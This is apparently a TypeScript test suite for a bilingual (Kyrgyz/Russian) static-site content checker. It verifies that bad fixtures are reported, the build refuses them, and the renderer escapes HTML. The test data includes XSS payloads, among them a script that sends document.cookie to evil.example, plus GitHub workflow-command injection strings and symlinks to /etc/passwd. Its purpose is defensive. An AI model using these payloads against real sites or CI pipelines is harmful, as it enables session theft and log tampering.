/**
 * The fixture tree `tests/fixtures/broken/` holds one broken or dangerous case per file.
 * Each must be reported with its own message, file and line, in Russian and Kyrgyz; the build
 * must refuse the tree and leave the published output as it was; and whatever HTML the
 * renderer ever sees stays inert.
 */
import { cp, mkdir, mkdtemp, readdir, readFile, rm, symlink, truncate, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeDocx, makePdf, makeZip } from "../helpers/files.ts";
import { runScript, type RunResult } from "../helpers/run.ts";
import { loadContent, type LoadedContent } from "../../scripts/lib/validate/load.ts";
import { renderMarkdown } from "../../scripts/lib/shared/markdown.ts";
import { formatProblem, type Problem } from "../../scripts/lib/validate/problems.ts";

const ROOT = path.resolve(import.meta.dirname, "../..");
const FIXTURE = path.join(ROOT, "tests/fixtures/broken");
const TODAY = "2026-11-25";
const BIG = "minutes/2026-10-big-scan.pdf";
const PIN = "21205199100123";

interface Expected {
  file: string;
  line: number;
  severity?: Problem["severity"];
  ru: string;
  ky: string;
}

const phones = [
  "+996 555 123 456",
  "+996 (555) 12-34-56",
  "+996555123456",
  "0555 123 456",
  "0555-12-34-56",
  "(0555) 12-34-56",
  "0700 12 34 56",
  "0312 62-45-67",
  "00996 777 12 34 56",
  "555 12 34 56",
  "+996770123456",
  "996700123456",
];
const garbled = ["ъкмът\\", "жергиликт\\\\", "кеёеш", "жаёы", "къп\\р", "ъткър\\шт"];

const expected: Expected[] = [
  { file: "en/posts/2026-11-15-news.md", line: 1, ru: "Папка «en» не является языком сайта", ky: "«en» папкасы сайттын тили эмес" },
  { file: "ky/news/2026-11-15-jangylyk.md", line: 1, ru: "Папка «news» не является разделом сайта", ky: "«news» папкасы сайттын бөлүмү эмес" },
  { file: "ky/2026-11-15-jangylyk.md", line: 1, ru: "Запись должна лежать в папке content/<язык>/<раздел>/", ky: "Жазуу content/<тил>/<бөлүм>/ папкасында турушу керек" },
  { file: "ky/posts/жаңылык.md", line: 1, ru: "Имя файла «жаңылык.md» должно состоять из латинских", ky: "«жаңылык.md» файлынын аты латын" },
  { file: "ky/posts/2026-11-16-no-front-matter.md", line: 1, ru: "Файл должен начинаться со строки «---»", ky: "Файл «---» сабы менен башталышы керек" },
  { file: "ky/posts/2026-11-17-yaml-colon.md", line: 2, ru: "Ошибка в записи полей (YAML)", ky: "Талаалардын жазылышында ката (YAML)" },
  { file: "ky/posts/2026-11-21-duplicate-key.md", line: 4, ru: "ключ записан дважды", ky: "ачкыч эки жолу жазылган" },
  { file: "ky/meetings/2026-05-14-typo.md", line: 6, ru: "Неизвестное поле «atendance». Возможно, имелось в виду «attendance»?", ky: "«atendance» деген талаа белгисиз. Балким, «attendance» болушу керек?" },
  { file: "ky/meetings/2026-05-14-typo.md", line: 1, ru: "Нет обязательного поля «attendance»", ky: "Милдеттүү «attendance» талаасы жок" },
  { file: "ky/events/2026-12-11-no-time.md", line: 1, ru: "Нет обязательного поля «time»", ky: "Милдеттүү «time» талаасы жок" },
  { file: "ky/posts/2026-02-30-bad-date.md", line: 3, ru: "даты «2026-02-30» нет в календаре", ky: "«2026-02-30» күнү календарда жок" },
  { file: "ky/posts/2026-11-01-date-format.md", line: 3, ru: "ожидается дата в виде ГГГГ-ММ-ДД, например 2026-11-25, найдено «01.11.2026»", ky: "«date» талаасында «01.11.2026» жазылган, бирок ЖЖЖЖ-АА-КК түрүндөгү дата болушу керек (мисалы, 2026-11-25)." },
  { file: "ky/reports/2026-13.md", line: 4, ru: "месяца «2026-13» нет", ky: "«2026-13» деген ай жок" },
  { file: "ky/events/2026-12-10-bad-kind.md", line: 5, ru: "одно из значений: gathering, hearing, presentation, найдено «meeting»", ky: "бирок төмөнкү маанилердин бири болушу керек: gathering, hearing, presentation." },
  { file: "ky/meetings/2026-08-14-women.md", line: 7, ru: "«women» (55) не может быть больше поля «attendance» (40)", ky: "«attendance» талаасынан (40) көп боло албайт" },
  { file: "ky/posts/2026-11-18-reach-spaces.md", line: 4, ru: "Поле «reach»: ожидается число, найдено «2 300»", ky: "«reach» талаасында «2 300» жазылган, бирок сан болушу керек." },
  { file: "ky/reports/2026-10.md", line: 4, ru: "Отчёт за период 2026-10 уже есть: ky/reports/2026-10-kaira.md", ky: "2026-10 мезгили үчүн отчет буга чейин бар" },
  { file: "ky/meetings/2026-06-10-pin-table.md", line: 11, ru: "(ПИН): «21505199000123»", ky: "(ПИН) табылды: «21505199000123»" },
  ...phones.map((phone, i) => ({ file: "ky/posts/2026-11-05-phones.md", line: 6 + i, ru: `Найден номер телефона: «${phone}»`, ky: `Телефон номери табылды: «${phone}»` })),
  { file: "ky/posts/2026-11-06-passport.md", line: 6, ru: "Найден номер паспорта или ID-карты: «AN 1234567»", ky: "Паспорттун же ID-картанын номери табылды: «AN 1234567»" },
  ...garbled.map((word) => ({ file: "ky/posts/2026-11-12-garbled.md", line: 6, ru: `Слово «${word}» похоже на текст, вставленный из старого 8-битного`, ky: `«${word}» сөзү эски 8-биттик кыргыз шрифтинен` })),
  { file: "ky/posts/2026-11-13-latin.md", line: 6, ru: "В слове «Yй» есть латинские буквы", ky: "«Yй» сөзүндө кириллицага окшош латын тамгалары" },
  { file: "ky/meetings/2026-09-01-names.md", line: 11, severity: "warning", ru: "Похоже на список из 7 имён", ky: "7 адамдын аты-жөнүнөн турган тизме" },
  { file: "ky/posts/2026-11-07-script.md", line: 8, ru: "HTML-код <script>", ky: "<script> HTML-коду бар" },
  { file: "ky/posts/2026-11-19-iframe.md", line: 6, ru: "HTML-код <iframe>", ky: "<iframe> HTML-коду бар" },
  { file: "ky/posts/2026-11-08-onerror.md", line: 6, ru: "обработчик событий (on…=)", ky: "окуя иштеткич (on…=)" },
  { file: "ky/posts/2026-11-09-javascript-link.md", line: 6, ru: "Опасная ссылка «javascript:alert(document.cookie)»", ky: "Коркунучтуу шилтеме «javascript:alert(document.cookie)»" },
  { file: "ky/posts/2026-11-22-encoded-js.md", line: 6, ru: "Опасная ссылка «javascript:alert(1)»", ky: "Коркунучтуу шилтеме «javascript:alert(1)»" },
  { file: "ky/posts/2026-11-22-encoded-js.md", line: 6, ru: "Опасная ссылка «data:text/html", ky: "Коркунучтуу шилтеме «data:text/html" },
  { file: "ky/posts/2026-11-23-raw-html.md", line: 6, severity: "warning", ru: "HTML-тег «<br>» на сайте покажется как обычный текст", ky: "«<br>» HTML-теги сайтта" },
  { file: "ky/posts/2026-11-23-raw-html.md", line: 6, severity: "warning", ru: "HTML-тег «<b>» на сайте покажется как обычный текст", ky: "«<b>» HTML-теги сайтта" },
  { file: "ky/posts/2026-11-10-broken-link.md", line: 6, ru: "Ссылка «/ky/reports/2026-09/» ведёт на страницу, которой нет на сайте. Возможно, нужна «/ky/reports/2026-10/»", ky: "«/ky/reports/2026-09/» шилтемеси сайтта жок баракка" },
  { file: "ky/posts/2026-11-11-broken-file-link.md", line: 6, ru: "Ссылка «/files/minutes/jok-protokol.pdf» ведёт на файл, которого нет", ky: "«/files/minutes/jok-protokol.pdf» шилтемеси content/files/ папкасында жок файлга" },
  { file: "ky/meetings/2026-06-18-missing-file.md", line: 8, ru: "Приложение «minutes/2026-06-18-protokol.pdf» не найдено", ky: "«minutes/2026-06-18-protokol.pdf» тиркемеси content/files/ папкасында табылган жок" },
  { file: "ky/acts/2026-03-27-outside.md", line: 7, ru: "Путь приложения «../_data/site.yaml» выходит за пределы content/files/", ky: "content/files/ папкасынан чыгып кетет" },
  { file: "files/minutes/2026-07-02-protokol.pdf", line: 1, ru: "назван как PDF, но на самом деле это JPG", ky: "PDF деп аталган, бирок чындыгында бул JPG" },
  { file: `files/${BIG}`, line: 1, ru: "больше допустимых 20 МБ", ky: "уруксат берилген 20 МБдан ашык" },
  { file: "files/minutes/empty.pdf", line: 1, ru: "пустой (0 байт)", ky: "бош (0 байт)" },
  { file: "files/x/page.html", line: 1, ru: "тип «.html» на сайте не публикуется", ky: "«.html» түрү сайтта жарыяланбайт" },
  { file: "ru/posts/2026-11-20-only-russian.md", line: 1, severity: "warning", ru: "Нет версии на кыргызском языке", ky: "Кыргызча варианты жок" },
  // Issue 12: numbers glued to Kyrgyz suffixes, dotted phones.
  { file: "ky/posts/2026-11-24-suffix-phones.md", line: 6, ru: "Найден номер телефона: «0555123456»", ky: "Телефон номери табылды: «0555123456»" },
  { file: "ky/posts/2026-11-24-suffix-phones.md", line: 7, ru: "Найден номер телефона: «0700 12 34 56»", ky: "Телефон номери табылды: «0700 12 34 56»" },
  { file: "ky/posts/2026-11-24-suffix-phones.md", line: 8, ru: `(ПИН): «${PIN}»`, ky: `(ПИН) табылды: «${PIN}»` },
  { file: "ky/posts/2026-11-24-suffix-phones.md", line: 9, ru: "Найден номер телефона: «0555.12.34.56»", ky: "Телефон номери табылды: «0555.12.34.56»" },
  // Links, hidden files, files that are no entry.
  { file: "files/passwd.txt", line: 1, ru: "символическая ссылка", ky: "символикалык шилтеме" },
  { file: "files/etc", line: 1, ru: "символическая ссылка", ky: "символикалык шилтеме" },
  { file: "files/.x.html", line: 1, ru: "скрытый файл", ky: "жашыруун файл" },
  { file: "files/minutes/.scan.svg", line: 1, ru: "скрытый файл", ky: "жашыруун файл" },
  { file: "files/.list.txt", line: 1, ru: "скрытый файл", ky: "жашыруун файл" },
  { file: "files/a\n::add-mask::b.pdf", line: 1, ru: "невидимый управляющий символ", ky: "көрүнбөгөн башкаруучу белги" },
  { file: "ky/reports/2026-09", line: 1, ru: "Переименуйте его в «ky/reports/2026-09.md»", ky: "«ky/reports/2026-09.md» деп өзгөртүңүз" },
  { file: "ky/posts/jangylyk.MD", line: 1, ru: "Переименуйте его в «ky/posts/jangylyk.md»", ky: "«ky/posts/jangylyk.md» деп өзгөртүңүз" },
  { file: "ky/posts/note.txt", line: 1, ru: "Переименуйте его в «ky/posts/note.md»", ky: "«ky/posts/note.md» деп өзгөртүңүз" },
  // What attachments hold.
  { file: "files/lists/pin-layer.pdf", line: 1, ru: `(на странице 2) найден персональный идентификационный номер (ПИН): «${PIN}»`, ky: "2-бетте" },
  { file: "files/lists/pin-layer.pdf", line: 1, ru: "(на странице 2) найден номер телефона: «0555 12 34 56»", ky: "2-бетте" },
  { file: "files/lists/pin-layer.pdf", line: 1, ru: "(на странице 2) найден номер паспорта или ID-карты: «ID1234567»", ky: "2-бетте" },
  { file: "files/lists/spisok.csv", line: 2, ru: `найден персональный идентификационный номер (ПИН): «${PIN}»`, ky: "«lists/spisok.csv» файлында" },
  { file: "files/lists/spisok.csv", line: 2, ru: "найден номер телефона: «0555 12 34 56»", ky: "«lists/spisok.csv» файлында" },
  { file: "files/lists/doc.docx", line: 1, ru: "найден номер телефона: «0555 12 34 56»", ky: "«lists/doc.docx» файлында" },
  { file: "files/lists/arhiv.zip", line: 1, ru: "есть файл «run.exe»: такие файлы на сайте не публикуются", ky: "«run.exe» файлы бар" },
  { file: "files/lists/arhiv.zip", line: 1, ru: "(внутри архива, в файле «list.csv», в строке 1) найден персональный идентификационный номер", ky: "архивдин ичинде, «list.csv» файлында" },
  { file: `files/lists/${PIN}.pdf`, line: 1, ru: `Имя файла «lists/${PIN}.pdf» содержит персональный идентификационный номер`, ky: "файлынын атында" },
  { file: "files/minutes/truncated.pdf", line: 1, ru: "повреждён или загружен не полностью", ky: "бузулган же толук жүктөлгөн эмес" },
  { file: "files/acts/old.doc", line: 1, ru: "в старом формате DOC", ky: "эски DOC форматында" },
  { file: "files/old/forgotten.pdf", line: 1, severity: "warning", ru: "не указан ни в одной записи", ky: "эч бир жазууда көрсөтүлгөн эмес" },
  // Odd input.
  { file: "ky/reports/2027-10.md", line: 4, ru: "Отчёт за период 2027-10 публикуется 2026-11-20, а этот месяц ещё не закончился", ky: "али бүтө элек" },
  { file: "ky/posts/2026-11-25-unclosed.md", line: 1, ru: "нет второй строки «---»", ky: "экинчи «---» сабы жок" },
  { file: "ky/posts/2026-11-26-alias-bomb.md", line: 5, ru: "слишком много ссылок", ky: "шилтемелер өтө көп" },
  { file: "ky/meetings/2026-05-15-quoted.md", line: 6, ru: "уберите кавычки, «attendance: 120»", ky: "тырмакчаларды алып салыңыз" },
  { file: "ky/posts/2026-11-27-injection.md", line: 4, ru: "найдено «5\n::warning file=x,line=1::pwned»", ky: "«reach» талаасы" },
  { file: "ky/posts/2026-11-03-injection-file.md", line: 5, ru: "Приложение «a.pdf\n::add-mask::secret» не найдено", ky: "табылган жок" },
  { file: "ky/posts/2026-11-28-control.md", line: 6, severity: "warning", ru: "невидимый символ U+000B (разрыв строки из Word)", ky: "Wordдон сап үзүлүшү" },
  { file: "ky/posts/2026-11-29-cp1251.md", line: 1, severity: "warning", ru: "в кодировке Windows-1251", ky: "Windows-1251 коддоосунда" },
  { file: "ky/posts/2026-11-30-utf16.md", line: 1, severity: "warning", ru: "в кодировке UTF-16", ky: "UTF-16 коддоосунда" },
  { file: "ky/posts/2026-11-02-binary.md", line: 1, ru: "не читается как текст UTF-8", ky: "UTF-8 текст катары окулбайт" },
];

/** Cp1251 bytes of a text (TextDecoder reads that code page; the table is built from it). */
function cp1251(text: string): Uint8Array {
  const decoder = new TextDecoder("windows-1251");
  const table = new Map<string, number>();
  for (let b = 0; b < 256; b++) table.set(decoder.decode(new Uint8Array([b])), b);
  return new Uint8Array([...text].map((c) => table.get(c) ?? 0x3f));
}

/** Cases that are links, binary files or odd encodings: made here rather than committed. */
async function writeMadeFiles(dir: string): Promise<void> {
  const made: Record<string, string | Uint8Array> = {
    "files/lists/pin-layer.pdf": makePdf(["Spisok of the participants of the gathering", `PIN ${PIN} / Phone 0555 12 34 56 / passport ID1234567`]),
    [`files/lists/${PIN}.pdf`]: makePdf(["Nothing private in this text layer at all."]),
    "files/lists/doc.docx": makeDocx(["Жыйындын катышуучулары", "Катышуучу: 0555 12 34 56"]),
    "files/lists/arhiv.zip": makeZip({ "run.exe": "MZ", "list.csv": `Асанов;${PIN}\n` }),
    "files/acts/old.doc": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(504).fill(0)]),
    "files/old/forgotten.pdf": makePdf(["An old document that no entry links to any more."]),
    "files/drafts/byudjet-proekt.pdf": makePdf(["Draft budget, to be published with its entry."]),
    "files/a\n::add-mask::b.pdf": makePdf(["A file whose name breaks a line of output."]),
    "ky/posts/2026-11-29-cp1251.md": cp1251("---\ntitle: Жыйын\ndate: 2026-11-29\n---\n\nЖыйын болду.\n"),
    "ky/posts/2026-11-30-utf16.md": new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from("---\ntitle: Жаңылык\ndate: 2026-11-30\n---\n\nЖаңылык.\n", "utf16le"))]),
    "ky/posts/2026-11-02-binary.md": new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x99, 0x98]),
  };
  for (const [file, bytes] of Object.entries(made)) {
    await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await writeFile(path.join(dir, file), bytes);
  }
  await symlink("/etc/passwd", path.join(dir, "files/passwd.txt"));
  await symlink("/etc", path.join(dir, "files/etc"));
}

const dirs: string[] = [];
let contentDir: string;
let buildOutput: RunResult | undefined;
let checkOutput: RunResult | undefined;
let content: LoadedContent;

beforeAll(async () => {
  const dir = await mkdtemp(path.join(tmpdir(), "achyk-broken-"));
  dirs.push(dir);
  contentDir = path.join(dir, "content");
  await cp(FIXTURE, contentDir, { recursive: true });
  // The project's current site and plan, so a change to their schemas can't add noise here.
  await cp(path.join(ROOT, "content/_data"), path.join(contentDir, "_data"), { recursive: true });
  // A 21 MB scan, made here (sparse) rather than committed.
  await writeFile(path.join(contentDir, "files", BIG), "%PDF-1.4\n");
  await truncate(path.join(contentDir, "files", BIG), 21 * 1024 * 1024);
  await writeMadeFiles(contentDir);
  content = await loadContent({ contentDir, today: TODAY, gitHistory: false });
});
afterAll(async () => Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true }))));

describe("every broken or dangerous case has its own message, file and line", () => {
  it("the fixture holds at least 25 cases in at least 25 files", () => {
    expect(expected.length).toBeGreaterThanOrEqual(25);
    expect(new Set(expected.map((e) => e.file)).size).toBeGreaterThanOrEqual(25);
  });

  it.each(expected)("$file:$line — $ru", ({ file, line, severity = "error", ru, ky }) => {
    const found = content.problems.filter((p) => p.file === file && p.line === line && p.message.ru.includes(ru));
    expect(found, content.problems.filter((p) => p.file === file).map((p) => `${p.line}: ${p.message.ru}`).join("\n")).toHaveLength(1);
    expect(found[0]!.severity).toBe(severity);
    expect(found[0]!.message.ky).toContain(ky);
  });

  it("reports nothing that is not one of the cases (one message per case, no noise)", () => {
    const shown = content.problems.filter((p) => p.severity !== "info");
    const unexpected = shown.filter((p) => !expected.some((e) => e.file === p.file && e.line === p.line && p.message.ru.includes(e.ru)));
    expect(unexpected.map((p) => formatProblem(p, "content"))).toEqual([]);
    expect(shown).toHaveLength(expected.length);
  });

  it("every fixture file is reported", async () => {
    const files = (await readdir(contentDir, { recursive: true, withFileTypes: true }))
      .filter((d) => d.isFile() && !path.relative(contentDir, d.parentPath).startsWith("_data"))
      .map((d) => path.relative(contentDir, path.join(d.parentPath, d.name)).split(path.sep).join("/"));
    // Fine by themselves: the first of two reports for one month (the second is reported),
    // the entry attaching the fake PDF (the file is reported), a draft with its attachment.
    const fine = new Set(["ky/reports/2026-10-kaira.md", "ky/meetings/2026-07-02-fake-pdf.md", "ky/posts/2026-11-14-draft.md", "files/drafts/byudjet-proekt.pdf"]);
    const silent = files.filter((f) => !fine.has(f) && !content.problems.some((p) => p.file === f));
    expect(silent).toEqual([]);
  });
});

describe("nothing of it reaches the site", () => {
  it("the build exits non-zero, prints every error with file and line, and leaves the output as it was", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "achyk-broken-out-"));
    dirs.push(dir);
    const output = path.join(dir, "site");
    await mkdir(output);
    await writeFile(path.join(output, "index.html"), "previous site");
    const result = await runScript("scripts/cli/build.ts", [], { env: { CONTENT_DIR: contentDir, SITE_TODAY: TODAY, ACHYK_OUTPUT: output } });
    expect(result.code).not.toBe(0);
    for (const problem of content.problems.filter((p) => p.severity === "error")) {
      expect(result.stderr).toContain(formatProblem(problem, contentDir));
    }
    expect(await readdir(output)).toEqual(["index.html"]);
    expect(await readFile(path.join(output, "index.html"), "utf8")).toBe("previous site");
    expect(await readdir(dir)).toEqual(["site"]);
    buildOutput = result;
  });

  it("check refuses first what the build refuses: the same errors, line for line, and a non-zero exit", async () => {
    const check = await runScript("scripts/cli/check.ts", ["--github"], { env: { CONTENT_DIR: contentDir, SITE_TODAY: TODAY } });
    expect(check.code).toBe(1);
    const errorLines = (text: string) => new Set(text.split("\n").filter((line) => line.startsWith(`${contentDir}/`) && !line.includes(": эскертүү / предупреждение: ")));
    const fromBuild = errorLines(buildOutput!.stderr);
    expect(fromBuild.size).toBe(content.problems.filter((p) => p.severity === "error").length);
    expect(errorLines(check.stderr)).toEqual(fromBuild);
    checkOutput = check;
  });

  it("no line that check --github or the build prints can run a workflow command of its own", () => {
    const annotation = /^::(error|warning|notice) file=[^\r\n:,]+,line=\d+::[^\r\n]*$/;
    for (const result of [buildOutput!, checkOutput!]) {
      // GitHub's runner splits on CR and LF, and trims spaces before looking for "::".
      const lines = `${result.stdout}\n${result.stderr}`.split(/\r\n|\r|\n/);
      const commands = lines.filter((line) => line.trimStart().startsWith("::"));
      expect(commands.filter((line) => !annotation.test(line))).toEqual([]);
      expect(lines.some((line) => /(add-mask|stop-commands|::warning file=x)/.test(line) && !line.includes("%0A"))).toBe(false);
    }
    expect(checkOutput!.stdout).toContain(`::error file=${contentDir}/files/a%0A%3A%3Aadd-mask%3A%3Ab.pdf,line=1::`);
  });
});

describe("HTML in Markdown stays inert", () => {
  const bodies = [
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    'Сүрөт: <img src="x" onerror="alert(1)">',
    "[бул жерди басыңыз](javascript:alert(document.cookie))",
    "[Басыңыз](jav&#x61;script:alert(1))",
    "<javascript:alert(1)>",
    "[бул](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
  ] as const;
  it.each(bodies)("even if it got past the checks, the renderer escapes %j", (body) => {
    const html = renderMarkdown(body);
    expect(html).not.toMatch(/<(script|img|iframe|svg|a href="javascript)/i);
    expect(html).not.toMatch(/href="(javascript|data):/i);
    expect(html).not.toMatch(/<[^>]+\son[a-z]+=/i);
  });

  it("a tree whose only flaw is a harmless tag builds, with the tag shown as text, under the CSP", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "achyk-raw-html-"));
    dirs.push(dir);
    const tree = path.join(dir, "content");
    await cp(path.join(FIXTURE, "_data"), path.join(tree, "_data"), { recursive: true });
    await mkdir(path.join(tree, "ky/posts"), { recursive: true });
    await cp(path.join(FIXTURE, "ky/posts/2026-11-23-raw-html.md"), path.join(tree, "ky/posts/2026-11-23-raw-html.md"));
    const output = path.join(dir, "site");
    const built = await runScript("scripts/cli/build.ts", [], { env: { CONTENT_DIR: tree, SITE_TODAY: TODAY, ACHYK_OUTPUT: output } });
    expect(built.code, built.stderr).toBe(0);
    const page = await readFile(path.join(output, "ky/posts/2026-11-23-raw-html/index.html"), "utf8");
    const main = page.slice(page.indexOf("<main"), page.indexOf("</main>"));
    expect(main).toContain("сап&lt;br&gt;экинчи");
    expect(main).toContain("&lt;b&gt;калың&lt;/b&gt;");
    expect(main).not.toContain("<br>");
    expect(page).toContain('<meta http-equiv="Content-Security-Policy" content="default-src \'self\';');
    expect(await readdir(output)).not.toContain("_templates");
  });
});
